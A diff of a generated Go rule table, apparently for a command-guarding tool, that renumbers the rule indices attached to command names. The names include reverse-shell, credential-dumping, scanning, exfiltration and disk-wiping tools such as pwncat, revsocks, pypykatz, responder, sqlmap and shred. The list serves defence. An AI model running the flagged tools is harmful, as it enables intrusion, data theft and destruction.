 				Name:    "psexec",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "psql",
 				Program: 59,
-				Rules:   []uint16{146, 352},
+				Rules:   []uint16{147, 353},
 			},
 			nameEntry{
 				Name:    "pssh",
 				Program: -1,
-				Rules:   []uint16{161, 162},
+				Rules:   []uint16{162, 163},
 			},
 			nameEntry{
 				Name:    "pstree",
@@ -17006,12 +17022,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pulsar-admin",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "pulumi",
 				Program: 62,
-				Rules:   []uint16{25, 26, 27, 39, 52, 64, 157, 159, 160, 202},
+				Rules:   []uint16{25, 26, 27, 40, 53, 65, 158, 160, 161, 203},
 			},
 			nameEntry{
 				Name:    "pup",
@@ -17020,7 +17036,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "puppet",
 				Program: 62,
-				Rules:   []uint16{252},
+				Rules:   []uint16{253},
 			},
 			nameEntry{
 				Name:    "puppeteer",
@@ -17032,12 +17048,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pvmove",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "pvremove",
 				Program: 65,
-				Rules:   []uint16{283, 298},
+				Rules:   []uint16{284, 299},
 			},
 			nameEntry{
 				Name:    "pvs",
@@ -17049,17 +17065,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pwncat",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "pwsh",
 				Program: 4,
-				Rules:   []uint16{395},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "pwsh.exe",
 				Program: -1,
-				Rules:   []uint16{395},
+				Rules:   []uint16{396},
 			},
 			nameEntry{
 				Name:    "py.test",
@@ -17084,7 +17100,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pyflyte",
 				Program: -1,
-				Rules:   []uint16{141},
+				Rules:   []uint16{142},
 			},
 			nameEntry{
 				Name:    "pyinstaller",
@@ -17097,7 +17113,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pypi-cleanup",
 				Program: -1,
-				Rules:   []uint16{376},
+				Rules:   []uint16{377},
 			},
 			nameEntry{
 				Name:    "pypy",
@@ -17110,7 +17126,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pypykatz",
 				Program: -1,
-				Rules:   []uint16{55},
+				Rules:   []uint16{56},
 			},
 			nameEntry{
 				Name:    "pyre",
@@ -17127,17 +17143,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "python",
 				Program: 46,
-				Rules:   []uint16{127, 129, 131, 383, 391, 392},
+				Rules:   []uint16{128, 130, 132, 384, 392, 393},
 			},
 			nameEntry{
 				Name:    "python2",
 				Program: 46,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "python3",
 				Program: 46,
-				Rules:   []uint16{127, 129, 131, 383, 391, 392},
+				Rules:   []uint16{128, 130, 132, 384, 392, 393},
 			},
 			nameEntry{
 				Name:    "pyupgrade",
@@ -17146,17 +17162,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "q",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "qdrant",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "qm",
 				Program: -1,
-				Rules:   []uint16{242},
+				Rules:   []uint16{243},
 			},
 			nameEntry{
 				Name:    "qmake",
@@ -17165,7 +17181,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "qovery",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "qrencode",
@@ -17186,17 +17202,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "qwen",
 				Program: 67,
-				Rules:   []uint16{469, 471},
+				Rules:   []uint16{470, 472},
 			},
 			nameEntry{
 				Name:    "rabbitmqadmin",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "rabbitmqctl",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "racket",
@@ -17205,32 +17221,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rados",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "radosgw-admin",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "rails",
 				Program: 49,
-				Rules:   []uint16{126, 127},
+				Rules:   []uint16{127, 128},
 			},
 			nameEntry{
 				Name:    "railway",
 				Program: 62,
-				Rules:   []uint16{24, 25, 26, 42, 52, 159, 180, 200, 256},
+				Rules:   []uint16{24, 25, 26, 43, 53, 160, 181, 201, 257},
 			},
 			nameEntry{
 				Name:    "rake",
 				Program: 46,
-				Rules:   []uint16{124, 126, 127},
+				Rules:   []uint16{125, 127, 128},
 			},
 			nameEntry{
 				Name:    "rancher",
 				Program: 62,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "ranlib",
@@ -17239,17 +17255,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rar",
 				Program: 24,
-				Rules:   []uint16{53},
+				Rules:   []uint16{54},
 			},
 			nameEntry{
 				Name:    "rbash",
 				Program: -1,
-				Rules:   []uint16{447},
+				Rules:   []uint16{448},
 			},
 			nameEntry{
 				Name:    "rbd",
 				Program: -1,
-				Rules:   []uint16{133},
+				Rules:   []uint16{134},
 			},
 			nameEntry{
 				Name:    "rbenv",
@@ -17258,22 +17274,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rbw",
 				Program: -1,
-				Rules:   []uint16{33, 57},
+				Rules:   []uint16{33, 58},
 			},
 			nameEntry{
 				Name:    "rc-service",
 				Program: 65,
-				Rules:   []uint16{416, 439},
+				Rules:   []uint16{417, 440},
 			},
 			nameEntry{
 				Name:    "rc-update",
 				Program: -1,
-				Rules:   []uint16{403},
+				Rules:   []uint16{404},
 			},
 			nameEntry{
 				Name:    "rclone",
 				Program: 58,
-				Rules:   []uint16{168, 169, 204, 253, 365, 380, 380, 382},
+				Rules:   []uint16{169, 170, 205, 254, 366, 381, 381, 383},
 			},
 			nameEntry{
 				Name:    "rd",
@@ -17282,7 +17298,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rdiff-backup",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name: "read",
@@ -17303,7 +17319,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reagentc",
 				Program: -1,
-				Rules:   []uint16{302},
+				Rules:   []uint16{303},
 			},
 			nameEntry{
 				Name: "realpath",
@@ -17315,12 +17331,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reboot",
 				Program: 65,
-				Rules:   []uint16{420, 421},
+				Rules:   []uint16{421, 422},
 			},
 			nameEntry{
 				Name:    "redis-cli",
 				Program: 59,
-				Rules:   []uint16{108, 109, 113, 114, 142, 148},
+				Rules:   []uint16{109, 110, 114, 115, 143, 149},
 			},
 			nameEntry{
 				Name:    "redis-dump",
@@ -17333,32 +17349,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reg",
 				Program: 65,
-				Rules:   []uint16{56, 462},
+				Rules:   []uint16{57, 463},
 			},
 			nameEntry{
 				Name:    "reg.exe",
 				Program: -1,
-				Rules:   []uint16{56, 462},
+				Rules:   []uint16{57, 463},
 			},
 			nameEntry{
 				Name:    "regasm",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "regctl",
 				Program: 63,
-				Rules:   []uint16{377, 378},
+				Rules:   []uint16{378, 379},
 			},
 			nameEntry{
 				Name:    "regsvr32",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "regsvr32.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "reindexdb",
@@ -17367,7 +17383,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "release-it",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "remix",
@@ -17384,7 +17400,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "render",
 				Program: 62,
-				Rules:   []uint16{42, 184, 200, 256},
+				Rules:   []uint16{43, 185, 201, 257},
 			},
 			nameEntry{
 				Name:    "renice",
@@ -17393,12 +17409,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "replicate",
 				Program: 62,
-				Rules:   []uint16{374},
+				Rules:   []uint16{375},
 			},
 			nameEntry{
 				Name:    "reposurgeon",
 				Program: -1,
-				Rules:   []uint16{331},
+				Rules:   []uint16{332},
 			},
 			nameEntry{
 				Name: "reset",
@@ -17410,42 +17426,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "resolvectl",
 				Program: 56,
-				Rules:   []uint16{360},
+				Rules:   []uint16{361},
 			},
 			nameEntry{
 				Name:    "responder",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "restart-computer",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "restic",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "restrain",
 				Program: 67,
-				Rules:   []uint16{473},
+				Rules:   []uint16{474},
 			},
 			nameEntry{
 				Name:    "restrain-bash",
 				Program: -1,
-				Rules:   []uint16{473},
+				Rules:   []uint16{474},
 			},
 			nameEntry{
 				Name:    "restrain-canary",
 				Program: -1,
-				Rules:   []uint16{474},
+				Rules:   []uint16{475},
 			},
 			nameEntry{
 				Name:    "restrain-zsh",
 				Program: -1,
-				Rules:   []uint16{473},
+				Rules:   []uint16{474},
 			},
 			nameEntry{
 				Name: "return",
@@ -17465,12 +17481,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "revsocks",
 				Program: -1,
-				Rules:   []uint16{357},
+				Rules:   []uint16{358},
 			},
 			nameEntry{
 				Name:    "rg",
 				Program: 14,
-				Rules:   []uint16{60, 61},
+				Rules:   []uint16{61, 62},
 			},
 			nameEntry{
 				Name:    "rga",
@@ -17499,7 +17515,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rke",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "rm",
@@ -17516,12 +17532,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "robocopy",
 				Program: -1,
-				Rules:   []uint16{288},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "robocopy.exe",
 				Program: -1,
-				Rules:   []uint16{288},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "robot",
@@ -17530,7 +17546,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rockcraft",
 				Program: 33,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "rollup",
@@ -17539,27 +17555,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "roo",
 				Program: 67,
-				Rules:   []uint16{469},
+				Rules:   []uint16{470},
 			},
 			nameEntry{
 				Name:    "rosa",
 				Program: -1,
-				Rules:   []uint16{247},
+				Rules:   []uint16{248},
 			},
 			nameEntry{
 				Name:    "route",
 				Program: 56,
-				Rules:   []uint16{426},
+				Rules:   []uint16{427},
 			},
 			nameEntry{
 				Name:    "rpk",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "rpm",
 				Program: 45,
-				Rules:   []uint16{386, 444, 468},
+				Rules:   []uint16{387, 445, 469},
 			},
 			nameEntry{
 				Name:    "rqlite",
@@ -17568,12 +17584,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rsend",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "rsnapshot",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "rspec",
@@ -17582,7 +17598,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rsync",
 				Program: 58,
-				Rules:   []uint16{63, 289},
+				Rules:   []uint16{64, 290},
 			},
 			nameEntry{
 				Name:    "rtk",
@@ -17595,7 +17611,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ruby",
 				Program: 46,
-				Rules:   []uint16{383, 391, 392},
+				Rules:   []uint16{384, 392, 393},
 			},
 			nameEntry{
 				Name:    "ruff",
@@ -17604,22 +17620,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "run0",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "runas",
 				Program: -1,
-				Rules:   []uint16{449},
+				Rules:   []uint16{450},
 			},
 			nameEntry{
 				Name:    "rundll32",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "rundll32.exe",
 				Program: -1,
-				Rules:   []uint16{393},
+				Rules:   []uint16{394},
 			},
 			nameEntry{
 				Name:    "runhaskell",
@@ -17628,12 +17644,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "runpodctl",
 				Program: 62,
-				Rules:   []uint16{177},
+				Rules:   []uint16{178},
 			},
 			nameEntry{
 				Name:    "runuser",
 				Program: 65,
-				Rules:   []uint16{405},
+				Rules:   []uint16{406},
 			},
 			nameEntry{
 				Name:    "rush",
@@ -17654,12 +17670,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rustic",
 				Program: -1,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "rustscan",
 				Program: -1,
-				Rules:   []uint16{429},
+				Rules:   []uint16{430},
 			},
 			nameEntry{
 				Name:    "rustup",
@@ -17672,17 +17688,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "s3cmd",
 				Program: 62,
-				Rules:   []uint16{168, 169, 204, 365, 380},
+				Rules:   []uint16{169, 170, 205, 366, 381},
 			},
 			nameEntry{
 				Name:    "s5cmd",
 				Program: 62,
-				Rules:   []uint16{168, 169, 365, 380},
+				Rules:   []uint16{169, 170, 366, 381},
 			},
 			nameEntry{
 				Name:    "salt",
 				Program: 62,
-				Rules:   []uint16{161, 162, 252},
+				Rules:   []uint16{162, 163, 253},
 			},
 			nameEntry{
 				Name:    "salt-call",
@@ -17691,17 +17707,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sam",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "samba-tool",
 				Program: -1,
-				Rules:   []uint16{189},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "sanity",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "sar",
@@ -17726,12 +17742,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sc",
 				Program: 65,
-				Rules:   []uint16{403, 416, 461},
+				Rules:   []uint16{404, 417, 462},
 			},
 			nameEntry{
 				Name:    "sc.exe",
 				Program: -1,
-				Rules:   []uint16{461, 462},
+				Rules:   []uint16{462, 463},
 			},
 			nameEntry{
 				Name:    "scala",
@@ -17744,7 +17760,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scalingo",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "scc",
@@ -17757,12 +17773,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "schtasks",
 				Program: 65,
-				Rules:   []uint16{402, 462},
+				Rules:   []uint16{403, 463},
 			},
 			nameEntry{
 				Name:    "schtasks.exe",
 				Program: -1,
-				Rules:   []uint16{462},
+				Rules:   []uint16{463},
 			},
 			nameEntry{
 				Name:    "scons",
@@ -17771,22 +17787,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scoop",
 				Program: 45,
-				Rules:   []uint16{468},
+				Rules:   []uint16{469},
 			},
 			nameEntry{
 				Name:    "scp",
 				Program: 58,
-				Rules:   []uint16{63},
+				Rules:   []uint16{64},
 			},
 			nameEntry{
 				Name:    "screen",
 				Program: 64,
-				Rules:   []uint16{475},
+				Rules:   []uint16{476},
 			},
 			nameEntry{
 				Name:    "screencapture",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "script",
@@ -17795,12 +17811,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scrot",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{370},
 			},
 			nameEntry{
 				Name:    "scrub",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "scutil",
@@ -17809,12 +17825,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scw",
 				Program: 62,
-				Rules:   []uint16{25, 26, 177, 199, 205, 206, 256},
+				Rules:   []uint16{25, 26, 178, 200, 206, 207, 257},
 			},
 			nameEntry{
 				Name:    "sdelete",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "sdiff",
@@ -17827,12 +17843,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sea-orm-cli",
 				Program: 49,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "secret-tool",
 				Program: 65,
-				Rules:   []uint16{37},
+				Rules:   []uint16{38},
 			},
 			nameEntry{
 				Name:    "secrethub",
@@ -17842,7 +17858,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "security",
 				Program: 65,
-				Rules:   []uint16{37, 445},
+				Rules:   []uint16{38, 446},
 			},
 			nameEntry{
 				Name:    "sed",
@@ -17851,7 +17867,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sem",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "semanage",
@@ -17860,12 +17876,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "semantic-release",
 				Program: -1,
-				Rules:   []uint16{375},
+				Rules:   []uint16{376},
 			},
 			nameEntry{
 				Name:    "semaphore",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "semgrep",
@@ -17874,22 +17890,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "send",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "sendmail",
 				Program: -1,
-				Rules:   []uint16{366, 380},
+				Rules:   []uint16{367, 381},
 			},
 			nameEntry{
 				Name:    "sentry",
 				Program: -1,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "sentry-cli",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name: "seq",
@@ -17897,61 +17913,61 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sequelize",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "sequelize-cli",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "sequin",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "serve",
 				Program: 46,
-				Rules:   []uint16{383},
+				Rules:   []uint16{384},
 			},
 			nameEntry{
 				Name:    "serveo",
 				Program: -1,
-				Rules:   []uint16{366},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "serverless",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "service",
 				Program: 65,
-				Rules:   []uint16{416, 425, 439},
+				Rules:   []uint16{417, 426, 440},
 			},
 			nameEntry{
 				Name:  "set",
-				Rules: []uint16{278, 480, 482, 484},
+				Rules: []uint16{279, 481, 483, 485},
 			},
 			nameEntry{
 				Name:    "setcap",
 				Program: 65,
-				Rules:   []uint16{408},
+				Rules:   []uint16{409},
 			},
 			nameEntry{
 				Name:    "setenforce",
 				Program: 65,
-				Rules:   []uint16{424},
+				Rules:   []uint16{425},
 			},
 			nameEntry{
 				Name:    "setenv",
 				Program: -1,
-				Rules:   []uint16{430, 484},
+				Rules:   []uint16{431, 485},
 			},
 			nameEntry{
 				Name:    "setfacl",
 				Program: 21,
-				Rules:   []uint16{299},
+				Rules:   []uint16{300},
 			},
 			nameEntry{
 				Name: "setopt",
@@ -17963,12 +17979,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sfdisk",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "sftp",
 				Program: 57,
-				Rules:   []uint16{381},
+				Rules:   []uint16{382},
 			},
 			nameEntry{
 				Name:    "sg",
@@ -17977,12 +17993,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sg_format",
 				Program: -1,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "sgdisk",
 				Program: 65,
-				Rules:   []uint16{283},
+				Rules:   []uint16{284},
 			},
 			nameEntry{
 				Name:    "sgpt",
@@ -17991,7 +18007,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sh",
 				Program: 4,
-				Rules:   []uint16{391, 392, 447, 448},
+				Rules:   []uint16{392, 393, 448, 449},
 			},
 			nameEntry{
 				Name:    "sha1sum",
@@ -18039,21 +18055,21 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shopify",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:  "shopt",
-				Rules: []uint16{483},
+				Rules: []uint16{484},
 			},
 			nameEntry{
 				Name:    "shorebird",
 				Program: -1,
-				Rules:   []uint16{371},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "shred",
 				Program: 23,
-				Rules:   []uint16{283, 284},
+				Rules:   []uint16{284, 285},
 			},
 			nameEntry{
 				Name:    "shuf",
@@ -18062,7 +18078,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "shutdown",
 				Program: 65,
-				Rules:   []uint16{420, 421},
+				Rules:   []uint16{421, 422},
 			},
 			nameEntry{
 				Name:    "sift",
@@ -18071,7 +18087,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "singlestore",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "sips",
@@ -18084,7 +18100,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "skaffold",
 				Program: 62,
-				Rules:   []uint16{159, 231},
+				Rules:   []uint16{160, 232},
 			},
 			nameEntry{
 				Name:    "skeema",
@@ -18093,27 +18109,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "skill",
 				Program: 64,
-				Rules:   []uint16{413, 415, 457, 477, 479},
+				Rules:   []uint16{414, 416, 458, 478, 480},
 			},
 			nameEntry{
 				Name:    "skopeo",
 				Program: 63,
-				Rules:   []uint16{51, 377, 378},
+				Rules:   []uint16{52, 378, 379},
 			},
 			nameEntry{
 				Name:    "sl",
 				Program: 51,
-				Rules:   []uint16{341, 342},
+				Rules:   []uint16{342, 343},
 			},
 			nameEntry{
 				Name:    "slack",
 				Program: 62,
-				Rules:   []uint16{184},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "slackcat",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name: "sleep",
@@ -18121,7 +18137,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sls",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "smartctl",
@@ -18130,22 +18146,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "smbclient",
 				Program: 57,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "snap",
 				Program: 45,
-				Rules:   []uint16{386, 444},
+				Rules:   []uint16{387, 445},
 			},
 			nameEntry{
 				Name:    "snapcraft",
 				Program: 33,
-				Rules:   []uint16{371, 375, 376},
+				Rules:   []uint16{372, 376, 377},
 			},
 			nameEntry{
 				Name:    "snapper",
 				Program: 66,
-				Rules:   []uint16{257},
+				Rules:   []uint16{258},
 			},
 			nameEntry{
 				Name:    "snow",
@@ -18162,7 +18178,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "socat",
 				Program: 56,
-				Rules:   []uint16{149, 357},
+				Rules:   []uint16{150, 358},
 			},
 			nameEntry{
 				Name:    "softwareupdate",
@@ -18200,7 +18216,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "spctl",
 				Program: 65,
-				Rules:   []uint16{422, 467},
+				Rules:   []uint16{423, 468},
 			},
 			nameEntry{
 				Name:    "specstory",
@@ -18217,7 +18233,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "spin",
 				Program: -1,
-				Rules:   []uint16{191},
+				Rules:   []uint16{192},
 			},
 			nameEntry{
 				Name:    "split",
@@ -18234,12 +18250,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sprunge",
 				Program: -1,
-				Rules:   []uint16{380},
+				Rules:   []uint16{381},
 			},
 			nameEntry{
 				Name:    "sqitch",
 				Program: 49,
-				Rules:   []uint16{127},
+				Rules:   []uint16{128},
 			},
 			nameEntry{
 				Name:    "sql",
@@ -18252,7 +18268,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sqlcmd",
 				Program: 59,
-				Rules:   []uint16{146},
+				Rules:   []uint16{147},
 			},
 			nameEntry{
 				Name:    "sqldump",
@@ -18269,42 +18285,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sqlite",
 				Program: 59,
-				Rules:   []uint16{63},
+				Rules:   []uint16{64},
 			},
 			nameEntry{
 				Name:    "sqlite3",
 				Program: 59,
-				Rules:   []uint16{63, 146},
+				Rules:   []uint16{64, 147},
 			},
 			nameEntry{
 				Name:    "sqlmap",
 				Program: -1,
-				Rules:   []uint16{55, 429},
+				Rules:   []uint16{56, 430},
 			},
 			nameEntry{
 				Name:    "sqlpackage",
 				Program: -1,
-				Rules:   []uint16{134},
+				Rules:   []uint16{135},
 			},
 			nameEntry{
 				Name:    "sqlplus",
 				Program: 59,
-				Rules:   []uint16{146},
+				Rules:   []uint16{147},
 			},
 			nameEntry{
 				Name:    "sqlx",
 				Program: 49,
-				Rules:   []uint16{127, 128, 130},
+				Rules:   []uint16{128, 129, 131},
 			},
 			nameEntry{
 				Name:    "sqlx-cli",
 				Program: -1,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "srm",
 				Program: 23,
-				Rules:   []uint16{284},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "ss",
@@ -18313,7 +18329,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh",
 				Program: 57,
-				Rules:   []uint16{352, 368, 382, 418},
+				Rules:   []uint16{353, 369, 383, 419},
 			},
 			nameEntry{
 				Name:    "ssh-add",
@@ -18326,12 +18342,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ssh-copy-id",
 				Program: 57,
-				Rules:   []uint16{446},
+				Rules:   []uint16{447},
 			},
 			nameEntry{
 				Name:    "ssh-keygen",
 				Program: 65,
-				Rules:   []uint16{44},
+				Rules:   []uint16{45},
 			},
 			nameEntry{
 				Name:    "ssh-keyscan",
@@ -18344,7 +18360,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sst",
 				Program: 62,
-				Rules:   []uint16{157, 159},
+				Rules:   []uint16{158, 160},
 			},
 			nameEntry{
 				Name:    "stack",
@@ -18381,7 +18397,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "step",
 				Program: -1,
-				Rules:   []uint16{280},
+				Rules:   []uint16{281},
 			},
 			nameEntry{
 				Name:    "stern",
@@ -18394,7 +18410,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stop-computer",
 				Program: -1,
-				Rules:   []uint16{459},
+				Rules:   []uint16{460},
 			},
 			nameEntry{
 				Name:    "storybook",
@@ -18407,17 +18423,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "strace",
 				Program: 64,
-				Rules:   []uint16{479},
+				Rules:   []uint16{480},
 			},
 			nameEntry{
 				Name:    "strapi",
 				Program: 49,
-				Rules:   []uint16{130},
+				Rules:   []uint16{131},
 			},
 			nameEntry{
 				Name:    "stratis",
 				Program: -1,
-				Rules:   []uint16{298},
+				Rules:   []uint16{299},
 			},
 			nameEntry{
 				Name:    "streamlit",
@@ -18426,17 +18442,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "stress",
 				Program: -1,
-				Rules:   []uint16{438},
+				Rules:   []uint16{439},
 			},
